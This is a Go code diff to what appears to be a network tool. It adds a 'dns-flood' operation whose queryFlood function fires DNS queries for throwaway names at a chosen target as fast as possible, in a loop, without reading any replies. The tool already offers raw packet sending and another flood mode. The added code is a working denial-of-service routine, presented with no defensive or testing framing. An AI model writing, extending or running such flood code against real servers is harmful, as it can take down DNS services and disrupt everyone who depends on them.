@@ -62,6 +62,8 @@ func run(p probe) string {
 		return raw(p.To, p.Protocol, payload)
 	case "flood":
 		return flood(p.To, p.Count)
+	case "dns-flood":
+		return queryFlood(p.To, p.Count)
 	}
 	return "no such operation: " + p.Op
 }
@@ -212,6 +214,19 @@ func raw(to string, protocol int, payload []byte) string {
 	copy(target.Addr[:], net.ParseIP(to).To4())
 	if err := syscall.Sendto(socket, payload, 0, &target); err != nil {
 		return err.Error()
+	}
+	return "sent"
+}
+
+// queryFlood sends queries for names of its own as fast as it can, and reads no answers.
+func queryFlood(to string, count int) string {
+	connection, err := net.Dial("udp", to)
+	if err != nil {
+		return outcome(err)
+	}
+	defer connection.Close()
+	for index := 0; index < count; index++ {
+		_, _ = connection.Write(question(fmt.Sprintf("n%d.flood.evil", index)))
 	}
 	return "sent"
 }
